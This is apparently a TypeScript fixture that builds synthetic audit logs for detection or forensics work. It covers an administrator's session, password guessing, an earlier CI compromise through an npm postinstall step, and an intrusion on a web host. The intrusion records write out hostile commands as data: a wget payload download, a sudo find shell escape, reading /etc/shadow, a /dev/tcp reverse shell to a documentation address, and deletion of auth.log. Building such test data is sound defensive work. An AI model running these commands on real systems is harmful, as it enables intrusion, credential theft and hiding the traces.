/** What people and an intruder did on three hosts, as audit records. The addresses are those of documentation (RFC 5737). */
import { AuditLog, type Task } from "./records.ts";

const USERS = { 0: "root", 33: "www-data", 110: "postgres", 1000: "alice", 1001: "deploy", 1002: "runner" };
const ALICE = 1000;
const DEPLOY = 1001;
const RUNNER = 1002;
const INTRUDER = "198.51.100.23";
const SERVER = "203.0.113.9";
const SSHD = { comm: "sshd", exe: "/usr/sbin/sshd", uid: 0 };
/** The one that waits for connections. */
const LISTENER: Task = { ...SSHD, pid: 812, ppid: 1 };

function pam(op: string, account: string, address: string, result = "success"): string {
  const grantors = result === "success" ? "pam_unix" : "?";
  return `op=PAM:${op} grantors=${grantors} acct="${account}" exe="/usr/sbin/sshd" hostname=${address} addr=${address} terminal=ssh res=${result}`;
}

/** A password is wrong: PAM tells, and so does sshd. */
function failedLogin(log: AuditLog, pid: number, account: string, address: string): void {
  const task: Task = { ...SSHD, pid: log.fork(LISTENER, pid), ppid: LISTENER.pid };
  log.wait(0.3);
  log.tell("USER_AUTH", task, pam("authentication", account, address, "failed"));
  const words = `op=login acct="${account}" exe="/usr/sbin/sshd" hostname=? addr=${address} terminal=sshd res=failed`;
  log.tell("USER_LOGIN", task, words);
  log.wait(2.6);
}

interface Login {
  pid: number;
  uid: number;
  account: string;
  session: number;
  address: string;
}

/** Somebody logs in by ssh: from sshd that listens to the shell. */
function sshLogin(log: AuditLog, { pid, uid, account, session, address }: Login): Task {
  const monitor: Task = { ...SSHD, pid: log.fork(LISTENER, pid), ppid: LISTENER.pid };
  log.wait(1.4);
  log.tell("USER_AUTH", monitor, pam("authentication", account, address));
  log.tell("USER_ACCT", monitor, pam("accounting", account, address));
  log.login(monitor, uid, session);
  const inside = { ...monitor, login: { uid, session } };
  log.tell("USER_START", inside, pam("session_open", account, address));
  log.tell(
    "USER_LOGIN",
    inside,
    `op=login id=${uid} exe="/usr/sbin/sshd" hostname=${address} addr=${address} terminal=/dev/pts/0 res=success`,
    uid,
  );
  const child: Task = { ...inside, pid: log.fork(inside, pid + 1), ppid: pid };
  const shell = { comm: "bash", exe: "/usr/bin/bash", tty: "pts0", cwd: `/home/${account}` };
  const bash: Task = { ...child, ...shell, uid, pid: log.fork(child, pid + 2), ppid: child.pid };
  log.execute(bash, ["-bash"]);
  return bash;
}

function childOf(parent: Task, pid: number, exe: string): Task {
  return { ...parent, pid, ppid: parent.pid, exe, comm: exe.slice(exe.lastIndexOf("/") + 1) };
}

/** A program that runs and ends, with what it does meanwhile. */
function run(log: AuditLog, task: Task, args: readonly string[], during: () => void = () => undefined): void {
  log.execute(task, args);
  during();
  log.wait(0.2);
  log.exit(task);
  log.wait(2);
}

/** sudo tells what it runs, and runs it. */
function sudo(log: AuditLog, shell: Task, pid: number, command: readonly string[]): Task {
  const own = { ...childOf(shell, pid, "/usr/bin/sudo"), euid: 0 };
  log.execute(own, ["sudo", ...command], { key: "setuid" });
  const words = Buffer.from(command.join(" ")).toString("hex").toUpperCase();
  log.tell("USER_CMD", own, `cwd="${shell.cwd}" cmd=${words} exe="/usr/bin/sudo" terminal=pts/0 res=success`);
  return { ...own, uid: 0, euid: 0 };
}

/** web1 on Monday: an administrator at work. */
export function administration(): string {
  const log = new AuditLog("2026-11-23T14:05:10Z", USERS);
  const address = "192.0.2.77";
  const bash = sshLogin(log, { pid: 1710, uid: ALICE, account: "alice", session: 40, address });
  log.wait(21);
  const own = sudo(log, bash, 1720, ["vim", "/etc/nginx/nginx.conf"]);
  const vim = childOf(own, 1721, "/usr/bin/vim.basic");
  run(log, vim, ["vim", "/etc/nginx/nginx.conf"], () => {
    log.wait(95);
    log.write(vim, "/etc/nginx/nginx.conf", "nginx");
  });
  log.exit(own);
  const again = sudo(log, bash, 1730, ["systemctl", "reload", "nginx"]);
  run(log, childOf(again, 1731, "/usr/bin/systemctl"), ["systemctl", "reload", "nginx"]);
  log.exit(again);
  log.wait(30);
  log.exit(bash);
  return log.text;
}

/** web1 on Tuesday, in the night: from a guessed password to a shell for somebody elsewhere. */
export function intrusion(): string {
  const log = new AuditLog("2026-11-24T03:11:40Z", USERS);
  for (const [at, account] of ["root", "admin", "deploy", "deploy"].entries())
    failedLogin(log, 2201 + at, account, INTRUDER);
  const bash = sshLogin(log, { pid: 2214, uid: DEPLOY, account: "deploy", session: 42, address: INTRUDER });
  log.wait(9);
  run(log, childOf(bash, 2220, "/usr/bin/id"), ["id"]);
  run(log, childOf(bash, 2221, "/usr/bin/uname"), ["uname", "-a"]);
  download(log, bash);
  run(log, childOf(bash, 2226, "/usr/bin/chmod"), ["chmod", "755", "/tmp/.kthr"], () =>
    log.makeExecutable(childOf(bash, 2226, "/usr/bin/chmod"), "/tmp/.kthr"),
  );
  const own = sudo(log, bash, 2230, ["find", "/var/log", "-maxdepth", "0", "-exec", "/bin/sh", ";"]);
  const find = childOf(own, 2231, "/usr/bin/find");
  log.execute(find, ["find", "/var/log", "-maxdepth", "0", "-exec", "/bin/sh", ";"]);
  const root = childOf(find, 2232, "/usr/bin/dash");
  log.execute({ ...root, comm: "sh" }, ["/bin/sh"]);
  asRoot(log, { ...root, comm: "sh" });
  return log.text;
}

/** wget is looked for along PATH before it is found. */
function download(log: AuditLog, shell: Task): void {
  const env = childOf(shell, 2224, "/usr/bin/env");
  const command = ["wget", "-q", "-O", "/tmp/.kthr", `http://${SERVER}/k`];
  log.execute(env, ["env", ...command]);
  const ENOENT = -2;
  for (const folder of ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin"])
    log.execute(env, [`${folder}/wget`], { exit: ENOENT });
  const wget = { ...env, comm: "wget", exe: "/usr/bin/wget" };
  run(log, wget, command, () => {
    log.connect(wget, SERVER, 80);
    log.wait(0.7);
    log.write(wget, "/tmp/.kthr", "tmp", true);
  });
}

function asRoot(log: AuditLog, shell: Task): void {
  log.wait(6);
  log.write(shell, "/etc/sudoers.d/90-deploy", "sudoers", true);
  log.wait(4);
  const cat = childOf(shell, 2240, "/usr/bin/cat");
  run(log, cat, ["cat", "/etc/shadow"], () => log.read(cat, "/etc/shadow", "shadow"));
  const kthr = childOf(shell, 2244, "/tmp/.kthr");
  log.execute(kthr, ["/tmp/.kthr"]);
  log.wait(0.5);
  const reverse = { ...kthr, comm: "bash", exe: "/usr/bin/bash" };
  log.execute(reverse, ["bash", "-c", `bash -i >& /dev/tcp/${SERVER}/4444 0>&1`]);
  log.connect(reverse, SERVER, 4444);
  log.wait(40);
  const bash = childOf(reverse, 2246, "/usr/bin/bash");
  log.execute(bash, ["bash", "-i"]);
  log.wait(12);
  const psql = childOf(bash, 2251, "/usr/bin/psql");
  run(log, psql, ["psql", "-h", "192.0.2.12", "-U", "postgres", "-l"], () => log.connect(psql, "192.0.2.12", 5432));
  const rm = childOf(bash, 2253, "/usr/bin/rm");
  run(log, rm, ["rm", "-f", "/tmp/.kthr", "/var/log/auth.log"], () => {
    log.remove(rm, "/tmp/.kthr", "delete");
    log.remove(rm, "/var/log/auth.log", "logs");
  });
}

/** db1 in the same night: somebody tries passwords from web1. */
export function attempts(): string {
  const log = new AuditLog("2026-11-24T03:16:02Z", USERS);
  for (const [at, account] of ["postgres", "postgres", "root", "backup", "alice"].entries())
    failedLogin(log, 3301 + at, account, "192.0.2.11");
  return log.text;
}

/** ci7, a machine of a few hours two weeks before: the same file was there first. */
export function earlier(): string {
  const log = new AuditLog("2026-11-10T09:41:18Z", USERS);
  const login = { uid: RUNNER, session: 3 };
  const script: Task = { pid: 5120, ppid: 5101, comm: "sh", exe: "/usr/bin/dash", uid: RUNNER, login, cwd: "/build" };
  log.execute(script, ["sh", "-c", "npm install"]);
  log.wait(4);
  const node = childOf(script, 5121, "/usr/bin/node");
  log.execute(node, ["node", "postinstall.js"]);
  log.connect(node, SERVER, 80);
  log.wait(1);
  log.write(node, "/tmp/.kthr", "tmp", true);
  const kthr = childOf(node, 5130, "/tmp/.kthr");
  run(log, kthr, ["/tmp/.kthr", "--probe"], () => log.connect(kthr, SERVER, 4444));
  return log.text;
}

/** web1, now: somebody looks whether the intruder's server is still there. */
export function connection(): string {
  const log = new AuditLog("2026-11-24T09:29:58Z", USERS);
  const login = { uid: ALICE, session: 44 };
  const curl: Task = { pid: 4120, ppid: 4101, comm: "curl", exe: "/usr/bin/curl", uid: ALICE, login, tty: "pts0" };
  log.connect(curl, SERVER, 80);
  return log.text;
}
